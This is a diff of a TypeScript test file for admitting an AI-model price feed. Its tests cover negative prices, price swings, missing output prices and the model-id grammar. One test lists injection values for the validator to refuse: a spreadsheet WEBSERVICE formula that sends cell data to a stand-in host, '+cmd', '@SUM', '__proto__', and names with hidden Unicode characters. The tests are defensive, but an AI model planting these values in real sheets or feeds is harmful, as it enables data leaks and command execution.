@@ -3,7 +3,14 @@ import { embeddedPrices } from '../../src/catalog/embeddedPrices';
 import type { PriceRow } from '../../src/catalog/priceRow';
 
 const TODAY = '2026-11-23';
-const GPT: PriceRow = { provider: 'openai', model: 'gpt-4o', input: 2.5, cached_input: 1.25, output: 10, checked: '2026-11-01' };
+const GPT: PriceRow = {
+  provider: 'openai',
+  model: 'gpt-4o',
+  input: 2.5,
+  cached_input: 1.25,
+  output: 10,
+  checked: '2026-11-01',
+};
 /** Ten models at 1/4 USD, so that one of them is a tenth of the feed. */
 const ACTIVE: readonly PriceRow[] = [
   GPT,
@@ -38,7 +45,8 @@ describe('admission of a feed', () => {
     const admission = admitted(admitRows(withGpt({ input: -1 }), ACTIVE, { today: TODAY }));
     expect(admission.quarantined[0].reason).toBe('input is negative (-1)');
     expect(gptOf(admission)?.input).toBe(2.5);
-    const alone = admitted(admitRows([{ provider: 'openrouter', model: 'auto', input: -1, output: -1 }], [], { today: TODAY }));
+    const dynamic: PriceRow = { provider: 'openrouter', model: 'auto', input: -1, output: -1 };
+    const alone = admitted(admitRows([dynamic], [], { today: TODAY }));
     expect(alone.records).toEqual([]);
   });
 
@@ -77,14 +85,16 @@ describe('admission of a feed', () => {
   });
 
   it('P05 one price in ten may move by more than half, two may not', () => {
-    const moved = (count: number) => ACTIVE.map((row, index) => (index < count ? { ...row, output: 1.6 * (row.output ?? 0) } : row));
+    const moved = (count: number) =>
+      ACTIVE.map((row, index) => (index < count ? { ...row, output: 1.6 * (row.output ?? 0) } : row));
     expect(admitRows(moved(1), ACTIVE, { today: TODAY }).kind).toBe('admitted');
     expect(admitRows(moved(2), ACTIVE, { today: TODAY }).kind).toBe('rejected');
   });
 
   it('P07 a record without an output price stays without one, and is never 0', () => {
     const row: PriceRow = { provider: 'openai', model: 'half-priced', input: 1 };
-    const found = admitted(admitRows([...ACTIVE, row], ACTIVE, { today: TODAY })).records.find(({ model }) => model === 'half-priced');
+    const { records } = admitted(admitRows([...ACTIVE, row], ACTIVE, { today: TODAY }));
+    const found = records.find(({ model }) => model === 'half-priced');
     expect(found?.input).toBe(1);
     expect(found?.output).toBeUndefined();
   });
@@ -117,14 +127,22 @@ describe('admission of a feed', () => {
     expect(admitRows(ACTIVE.slice(2), ACTIVE, { today: TODAY }).kind).toBe('admitted');
   });
 
-  it.each(['=WEBSERVICE("https://x/?"&A1)', '+cmd', '-1+1', '@SUM(A1)', '\tgpt', 'gpt\r4', 'gpt 4', '', 'a'.repeat(129), '__proto__'])(
-    'P13 the id %j is refused by the grammar and not repeated in the reason',
-    (model) => {
-      const admission = admitted(admitRows([...ACTIVE, { ...GPT, model }], ACTIVE, { today: TODAY }));
-      expect(admission.quarantined[0].reason).toBe('the model name has characters that no model id has');
-      expect(admission.records).toHaveLength(10);
-    },
-  );
+  it.each([
+    '=WEBSERVICE("https://x/?"&A1)',
+    '+cmd',
+    '-1+1',
+    '@SUM(A1)',
+    '\tgpt',
+    'gpt\r4',
+    'gpt 4',
+    '',
+    'a'.repeat(129),
+    '__proto__',
+  ])('P13 the id %j is refused by the grammar and not repeated in the reason', (model) => {
+    const admission = admitted(admitRows([...ACTIVE, { ...GPT, model }], ACTIVE, { today: TODAY }));
+    expect(admission.quarantined[0].reason).toBe('the model name has characters that no model id has');
+    expect(admission.records).toHaveLength(10);
+  });
 
   it.each(['Claude\u202E Sonnet', 'GPT\u200B-4o', 'tab\tname', 'x'.repeat(121)])(
     'P13 a display name with hidden characters or without end is refused',
